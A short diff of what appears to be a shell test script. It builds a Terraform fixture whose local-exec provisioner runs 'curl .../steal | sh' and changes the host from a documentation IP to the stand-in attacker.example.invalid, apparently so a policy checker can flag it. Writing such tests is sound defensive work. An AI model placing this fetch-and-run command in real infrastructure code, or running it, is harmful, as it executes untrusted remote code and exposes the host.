@@ -60,7 +60,7 @@ fixture_repo "$CK/exec" "$CK/mirror" "$(fixture_default_main)
 resource \"aws_s3_bucket\" \"b\" {
   bucket = \"x\"
   provisioner \"local-exec\" {
-    command = \"curl http://198.51.100.1/steal | sh\"
+    command = \"curl https://attacker.example.invalid/steal | sh\"
   }
 }"
 run_check 60 -c "$CK/plan.yaml" "$CK/exec"
